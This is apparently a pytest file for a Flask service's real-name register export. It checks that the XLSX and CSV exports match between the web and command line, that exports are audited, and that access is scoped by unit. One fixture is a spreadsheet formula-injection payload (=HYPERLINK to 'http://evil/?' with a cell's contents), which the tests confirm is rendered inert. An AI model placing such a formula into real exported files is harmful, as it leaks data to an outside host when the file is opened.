"""The real-name register: one row per person in the ACFTU field order, text IDs, inert formulas,
audited, the same file from the web and from `portal export`."""

from __future__ import annotations

import hashlib
import io
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import sqlalchemy as sa
from flask import Flask

from form_service.applications.outcomes import Outcome
from form_service.reports import register as exports
from form_service.store import Store
from form_service.store.tables import applications, audit_log
from form_service.web import services
from tests.support.applications import apply, record, train
from tests.support.apps import portal_command
from tests.support.staff import Staff, text_of

EVIL = '=HYPERLINK("http://evil/?"&A1,"点我")'
ON = date(2011, 7, 1)


def _people(app: Flask) -> list[str]:
    """Three people: P1 trained and placed (two applications), P2 only applied, P3 a job seeker."""
    store: Store = services.store(app)
    cipher = services.cipher(app)
    p1 = apply(store, cipher, flow="training", unit_id="yangpu", course_id="c05-diangong-wuji",
               person_id="310104197503122014")  # fmt: skip
    apply(store, cipher, flow="housekeeping", unit_id="minhang", person_id="34122119881105452X",
          name="李四", groups=("下岗失业人员",))  # fmt: skip
    state = train(store, application_id=p1, track="skills", start=ON, end=ON, actor="t")
    certificate = Outcome("certificate", ON, occupation="电工", level="五级", cert_number="0012")
    job = Outcome("employment", ON, employer=EVIL, contract_months=12)
    for outcome in (certificate, job):
        state = record(store, application_id=p1, track="skills", state=state, outcome=outcome,
                       actor="t")  # fmt: skip
    apply(store, cipher, flow="jobseeker", unit_id="yangpu", person_id="310104197503122014")
    p3 = apply(store, cipher, flow="jobseeker", unit_id="luwan", person_id="412728197209183069", name="买买提·艾力",
               phone="15800001111", groups=("就业困难人员",))  # fmt: skip
    record(store, application_id=p3, track="jobseeker", state="已提交", actor="t",
           outcome=Outcome("realname", date(2011, 6, 30)))  # fmt: skip
    with store.read() as conn:
        return list(
            conn.execute(sa.select(applications.c.reference).order_by(applications.c.id)).scalars()
        )


def _expected(references: list[str]) -> list[list[Any]]:
    return [
        ["张三", "男", "1975-03-12", "310104197503122014", "农民工", "13912345678", "农业", "外省市", "初中",
         "农民工", "在岗", "杨浦区总工会", "技能培训:电工(五级)晚班;求职登记", f"{references[0]}、{references[2]}",
         "2011-07-01", "电工", "五级", "0012", "2011-07-01", EVIL, "2011-07-01", 12, None, None, None, None, None],
        ["买买提·艾力", "女", "1972-09-18", "412728197209183069", "失(无)业", "15800001111", "非农业", "本市", "初中",
         "就业困难人员", "失业(已登记)", "黄浦区总工会", "求职登记", references[3],
         None, None, None, None, None, None, None, None, None, None, None, None, "2011-06-30"],
    ]  # fmt: skip


def test_register_xlsx_reads_back_whole(app: Flask, admin: Staff, tmp_path: Path) -> None:
    references = _people(app)
    web = admin.post("/staff/register", {"format": "xlsx", "kind": "all", "unit": ""})
    assert web.status_code == 200
    assert web.headers["Content-Disposition"].startswith("attachment;")
    ws = openpyxl.load_workbook(io.BytesIO(web.data))["实名制台账"]
    rows = [[cell.value for cell in row] for row in ws.iter_rows()]
    assert rows == [list(exports.FIELDS)] + [
        [None if value == "" else value for value in row] for row in _expected(references)
    ]
    for row in ws.iter_rows(min_row=2):
        for column in ("身份证号", "联系电话", "报名编号"):
            cell = row[exports.FIELDS.index(column)]
            assert (cell.data_type, cell.number_format) == ("s", "@")
    assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    assert [c.value for row in ws.iter_rows() for c in row if c.quotePrefix] == [EVIL]
    out = tmp_path / "register.xlsx"
    result = portal_command(app, ["export", "--format", "xlsx", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == web.data


def test_register_csv_is_the_same_from_web_and_command(
    app: Flask, yangpu: Staff, tmp_path: Path
) -> None:
    references = _people(app)
    web = yangpu.post("/staff/register", {"format": "csv", "kind": "all", "unit": "yangpu"})
    header = ",".join(exports.FIELDS)
    assert web.data.decode("utf-8") == (
        f"\ufeff{header}\r\n"
        "张三,男,1975-03-12,310104197503122014,农民工,13912345678,农业,外省市,初中,农民工,在岗,杨浦区总工会,"
        f"技能培训:电工(五级)晚班;求职登记,{references[0]}、{references[2]},2011-07-01,电工,五级,0012,2011-07-01,"
        '"\'=HYPERLINK(""http://evil/?""&A1,""点我"")",2011-07-01,12,,,,,\r\n'
    )
    out = tmp_path / "yangpu.csv"
    result = portal_command(
        app, ["export", "--format", "csv", "--unit", "yangpu", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == web.data
    store: Store = services.store(app)
    with store.read() as conn:
        records = [tuple(r) for r in conn.execute(
            sa.select(audit_log.c.actor, audit_log.c.action, audit_log.c.unit_id, audit_log.c.detail)
            .where(audit_log.c.action == "export").order_by(audit_log.c.id)
        )]  # fmt: skip
    detail = {
        "format": "csv",
        "unit": "yangpu",
        "kind": "all",
        "rows": 1,
        "sha256": hashlib.sha256(web.data).hexdigest(),
    }
    assert [r[:3] for r in records] == [
        ("yangpu-staff", "export", "yangpu"),
        (records[1][0], "export", "yangpu"),
    ]
    assert records[1][0].startswith("命令行:")
    assert [r[3] for r in records] == [detail, detail]


def test_unit_staff_cannot_export_another_unit(app: Flask, yangpu: Staff) -> None:
    _people(app)
    refused = yangpu.post("/staff/register", {"format": "csv", "kind": "all", "unit": "huangpu"})
    assert refused.status_code == 400
    assert "请从列表中选择单位" in text_of(refused)
    everyone = yangpu.post("/staff/register", {"format": "csv", "kind": "all", "unit": ""})
    assert everyone.status_code == 400
    assert "请选择单位" in text_of(everyone)
